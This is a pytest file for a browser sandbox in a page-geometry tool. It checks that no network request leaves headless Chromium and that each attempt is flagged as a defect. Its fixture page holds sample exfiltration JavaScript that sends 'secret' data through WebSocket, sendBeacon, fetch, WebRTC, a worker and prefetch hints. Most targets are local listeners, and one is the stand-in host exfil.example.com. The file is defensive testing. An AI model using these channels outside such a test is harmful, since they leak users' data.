"""No request of any kind leaves the browser, and every attempt is an external_resource defect.

A local listener (threaded HTTP server, raw TCP and UDP sockets on 127.0.0.1) stands in
for the network: a page that tries every way out (WebSocket, sendBeacon, EventSource,
fetch, an image, prefetch, preconnect/dns-prefetch hints, WebRTC, a worker) must leave
it silent, with the default and the reference profile alike.
"""

from __future__ import annotations

import os
import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tether.systems.pages.geometry.browser import BrowserHost
from tether.systems.pages.geometry.instrument import GeometryInstrument

#: the instrument's declared options
Options = GeometryInstrument.Params

pytestmark = pytest.mark.browser  # every test here starts Chromium (some their own host)


class Listener:
    """Everything that reaches 127.0.0.1 on its three ports, as short descriptions."""

    def __init__(self) -> None:
        self.received: list[str] = []
        received = self.received

        class Handler(BaseHTTPRequestHandler):
            def _any(self) -> None:
                received.append(f"http {self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_HEAD = do_OPTIONS = _any

            def log_message(self, *args: object) -> None:
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.http_port = self.http.server_address[1]
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp_port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp_port = self.udp.getsockname()[1]
        self._threads = [threading.Thread(target=self.http.serve_forever, daemon=True),
                         threading.Thread(target=self._accept, daemon=True),
                         threading.Thread(target=self._datagrams, daemon=True)]
        for t in self._threads:
            t.start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                return
            conn.settimeout(1)
            try:
                first = conn.recv(200)
            except OSError:
                first = b""
            self.received.append(f"tcp {first[:60]!r}")
            conn.close()

    def _datagrams(self) -> None:
        while True:
            try:
                data, _ = self.udp.recvfrom(2048)
            except OSError:
                return
            self.received.append(f"udp {len(data)} bytes")

    def close(self) -> None:
        self.http.shutdown()
        self.http.server_close()
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    lis = Listener()
    yield lis
    lis.close()


def exfil_page(lis: Listener) -> tuple[str, dict[str, str]]:
    """A page with an obvious overlap that tries every way out; and the URLs it uses."""
    http = f"http://127.0.0.1:{lis.http_port}"
    urls = {
        "websocket": f"ws://127.0.0.1:{lis.tcp_port}/ws-exfil?data=secret",
        "beacon": f"{http}/beacon-exfil",
        "eventsource": f"{http}/es-exfil",
        "fetch": f"{http}/fetch-exfil",
        "image": f"{http}/img-exfil.png",
        "prefetch": f"{http}/prefetch-exfil",
        "preconnect": f"http://127.0.0.1:{lis.tcp_port}/",
        "webrtc": f"stun:127.0.0.1:{lis.udp_port}",
    }
    worker = (f"fetch('{http}/worker-exfil').catch(() => 0);"
              f"new WebSocket('ws://127.0.0.1:{lis.tcp_port}/worker-ws');")
    html = f"""<!DOCTYPE html><html><head>
<link rel="prefetch" href="{urls['prefetch']}">
<link rel="preconnect" href="{urls['preconnect']}">
<link rel="dns-prefetch" href="//exfil.example.com">
</head><body>
<p style="position:absolute;left:100px;top:100px;font:40px sans-serif">Overlap one</p>
<p style="position:absolute;left:110px;top:105px;font:40px sans-serif">Overlap two</p>
<img src="{urls['image']}" width="10" height="10">
<script>
const attempt = (f) => {{ try {{ f(); }} catch (e) {{ /* a blocked API may throw */ }} }};
attempt(() => new WebSocket('{urls['websocket']}'));
attempt(() => navigator.sendBeacon('{urls['beacon']}', 'secret'));
attempt(() => new EventSource('{urls['eventsource']}'));
attempt(() => fetch('{urls['fetch']}').catch(() => 0));
attempt(() => new Worker(URL.createObjectURL(new Blob([`{worker}`]))));
attempt(() => {{
  const pc = new RTCPeerConnection({{iceServers: [{{urls: '{urls['webrtc']}'}}]}});
  pc.createDataChannel('x');
  pc.createOffer().then((o) => pc.setLocalDescription(o));
}});
</script></body></html>"""
    return html, urls


def _quiet_after(lis: Listener) -> list[str]:
    # Let anything still in flight arrive before looking (a bound on delivery, not a
    # timing assertion: the listener must stay empty however long we wait).
    time.sleep(1.0)
    return list(lis.received)


def test_listener_hears_a_direct_request(listener):
    # The listener itself works: what the browser sends would be seen.
    with socket.create_connection(("127.0.0.1", listener.http_port)) as s:
        s.sendall(b"GET /probe HTTP/1.0\r\n\r\n")
        s.recv(100)
    assert _quiet_after(listener) == ["http GET /probe"]


def test_no_request_leaves_the_browser_and_each_attempt_is_a_defect(browser_host, listener):
    html, urls = exfil_page(listener)
    default = GeometryInstrument(Options(profile="default"), host=browser_host).measure(
        html, "figure")
    reference = GeometryInstrument(Options(profile="reference"), host=browser_host).measure(
        html, "figure")
    assert _quiet_after(listener) == []
    assert default.ok and reference.ok, (default.error, reference.error)
    # The layout is still measured: the overlap is found by both profiles.
    assert default.raw["counts"]["text_overlap"] == 1
    assert reference.raw["counts"]["text_overlap"] == 1
    external = [d for d in default.defects if d.kind == "external_resource"]
    seen = {d.evidence["url"] for d in external}
    assert set(urls.values()) <= seen, set(urls.values()) - seen
    assert "//exfil.example.com" in seen
    assert all(d.location == "network" and d.message.startswith("blocked ") for d in external)
    assert default.raw["counts"]["external_resource"] == len(external)
    # The reference profile never counts network use (the study did not), but records it.
    assert "external_resource" not in reference.raw["counts"]
    assert set(urls.values()) <= {b["url"] for b in reference.raw["blocked_requests"]}


def test_in_browser_blocking_alone_keeps_the_listener_silent(listener):
    # Defence in depth: without the network namespace, the browser's own blocking
    # (routes, resolver rules, init-script guards) still lets nothing out.
    host = BrowserHost(network_namespace=False)
    try:
        html, urls = exfil_page(listener)
        obs = GeometryInstrument(Options(profile="default"), host=host).measure(html, "figure")
    finally:
        host.close()
    assert _quiet_after(listener) == []
    assert obs.ok and set(urls.values()) <= {d.evidence.get("url") for d in obs.defects}


def _descendants(pid: int) -> list[int]:
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                ppid = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(ppid, []).append(int(entry.name))
    out, todo = [], [pid]
    while todo:
        for child in children.get(todo.pop(), []):
            out.append(child)
            todo.append(child)
    return out


async def _started() -> None:
    return None


@pytest.mark.skipif(not Path("/proc/self/ns/net").exists(), reason="needs Linux /proc")
def test_the_browser_runs_without_a_route_to_the_network(browser_host):
    browser_host.run(_started())  # the shared browser is running
    ours = os.readlink("/proc/self/ns/net")
    browsers = []
    for pid in _descendants(os.getpid()):
        try:
            exe = os.readlink(f"/proc/{pid}/exe")
            ns = os.readlink(f"/proc/{pid}/ns/net")
        except OSError:
            continue
        if "chromium" in exe:
            browsers.append(ns)
    assert browsers, "no Chromium process found under this test process"
    assert ours not in browsers
